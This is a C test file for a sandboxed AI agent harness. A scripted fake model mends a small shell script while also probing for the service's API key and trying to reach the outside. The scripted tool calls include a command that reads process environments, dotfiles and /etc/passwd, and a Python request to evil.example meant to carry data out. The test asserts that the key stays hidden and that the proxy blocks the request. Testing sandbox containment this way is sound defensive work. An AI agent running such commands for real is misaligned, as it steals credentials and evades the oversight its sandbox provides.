/* The built-in agent where it belongs: in the real sandbox, before the real proxy, with a scripted model behind it. It
 * mends a small project, looks for our key on the way, and tries to get out. This program is also the agent: inside,
 * it is started with its verbs: the one that leads from the loopback address to the socket, and that of the agent. */
#include "agents/agents.h"
#include "cmd/cmd.h"
#include "sandbox_fixture.h"
#include "test_proxy_support.h"

typedef struct scene {
    void *box, *w;
} scene;

static int scene_new(void **state) {
    scene *s = sc_alloc(sizeof *s);
    if (!s || boxed_begin(&s->box) || world_new(&s->w)) return -1;
    *state = s;
    return 0;
}

static int scene_free(void **state) {
    scene *s = *state;
    int failed = boxed_end(&s->box) | world_free(&s->w);
    sc_free(s);
    return failed;
}

static void reply_call(world *w, const char *name, const char *args) {
    sc_buf quoted;
    sc_buf_init(&quoted, 1 << 20);
    sc_buf_put_json(&quoted, sc_str_of(args));
    if (asprintf(
            &w->replies[w->n_replies++],
            REPLY_JSON(
                "{\"choices\":[{\"message\":{\"content\":null,\"tool_calls\":[{\"id\":\"c\","
                "\"type\":"
                "\"function\",\"function\":{\"name\":\"%s\",\"arguments\":%s}}]},\"finish_reason\":"
                "\"tool_calls\"}],\"usage\":{\"prompt_tokens\":100,\"completion_tokens\":10}}"),
            name, quoted.p) < 0)
        fail_msg("no memory");
    sc_buf_done(&quoted);
}

/* What a curious agent looks through: environments, arguments, files, descriptors, and what lies around. */
static const char look_around[] = "{\"command\":\"env; cat /proc/[0-9]*/environ "
                                  "/proc/[0-9]*/cmdline; ls -l /proc/self/fd /run/soulcaster ~; "
                                  "cat ~/.* /run/soulcaster/* /etc/passwd 2>&1\"}";
static const char get_out[] = "{\"command\":\"python3 -c 'import urllib.request as r; "
                              "r.urlopen(\\\"https://evil.example/?all=mine\\\")' "
                              "2>&1 | tail -n 1\"}";

static void script_of_a_curious_one(world *w) {
    reply_call(w, "run", look_around);
    reply_call(w, "run", get_out);
    reply_call(w, "edit", "{\"path\":\"sum.sh\",\"old\":\"-\",\"new\":\"+\"}");
    reply_call(w, "run", "{\"command\":\"sh sum.sh 2 3\"}");
    reply_call(w, "done", "{\"summary\":\"It subtracted.\"}");
}

/* The row of the table, as a fix fills it. */
static void fill_spec(sc_runner_spec *spec, sc_arena *arena, const char **env, size_t room) {
    static const sc_agent_words words = {.prompt_file = SC_RUNNER_OURS "/task.md",
                                         .work = SC_RUNNER_WORK,
                                         .home = SC_RUNNER_HOME,
                                         .model = "m-1",
                                         .url = "http://127.0.0.1:8100",
                                         .self = SC_RUNNER_SELF,
                                         .shape = SC_PROXY_OPENAI,
                                         .steps = 20};
    const sc_agent *a = sc_agent_find(SC_STR("builtin"));
    const sc_agent_pair *pairs = NULL;
    size_t n = 0;
    assert_int_equal(sc_agent_argv(a->argv, sc_agent_argc(a), &words, arena, &spec->argv, NULL),
                     SC_OK);
    assert_int_equal(sc_agent_env(a, &words, arena, &pairs, &n, NULL), SC_OK);
    assert_true(n + 2 <= room);
    for (size_t i = 0; i < n; i++)
        env[i] = sc_arena_printf(arena, "%s=%s", pairs[i].name, pairs[i].value);
    /* The sanitizers of a test build look for leaks by tracing, which the sandbox forbids. */
    env[n] = "ASAN_OPTIONS=detect_leaks=0";
    env[n + 1] = NULL;
    spec->env = env;
}

static void the_agent_mends_and_sees_no_key(void **state) {
    scene *s = *state;
    boxed *b = s->box;
    world *w = s->w;
    char path[128];
    SC_AUTO(sc_arena_done) sc_arena arena;
    sc_arena_init(&arena, 1 << 20);
    snprintf(path, sizeof path, "%s/sum.sh", b->work);
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fputs("echo $(($1 - $2))\n", f);
    fclose(f);
    script_of_a_curious_one(w);
    start(w);
    const char *env[SC_AGENT_MAX_ENV + 2];
    const sc_runner_file files[] = {{SC_RUNNER_OURS "/task.md", SC_STR("sum.sh subtracts")}};
    const sc_runner_socket sockets[] = {{w->path, SC_RUNNER_OURS "/model.sock"}};
    sc_runner_spec spec = boxed_script(b, "true");
    fill_spec(&spec, &arena, env, SC_LEN(env));
    spec.files = files;
    spec.n_files = 1;
    spec.sockets = sockets;
    spec.n_sockets = 1;
    spec.forward = (sc_runner_forward){8100, SC_RUNNER_OURS "/model.sock"};
    boxed_run(b, &spec);
    look(w);
    if (b->end.exit) fail_msg("%s%s", b->out.p, b->err.p);
    must_hold(b->out.p, "done: It subtracted.");
    must_hold(w->asked, "Authorization: Bearer " KEY); /* the service got it */
    must_hold(w->asked, "5\\n[exit status 0]");
    must_hold(w->asked, "Tunnel connection failed: 403");
    must_not_hold(strstr(w->asked, "\r\n\r\n"), KEY); /* the model would have been told of it */
    must_not_hold(b->out.p, KEY);
    assert_string_equal(w->blocked, "evil.example:443");
    assert_int_equal(w->n_counted, 5);
}

int main(int argc, char **argv) {
    static const sc_verb *const verbs[] = {&sc_verb_agent, &sc_verb_sandbox};
    if (argc > 1) return sc_cmd_run(verbs, SC_LEN(verbs), argc, argv);
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(the_agent_mends_and_sees_no_key, scene_new, scene_free),
    };
    return boxed_main("agent in the sandbox", tests, SC_LEN(tests));
}
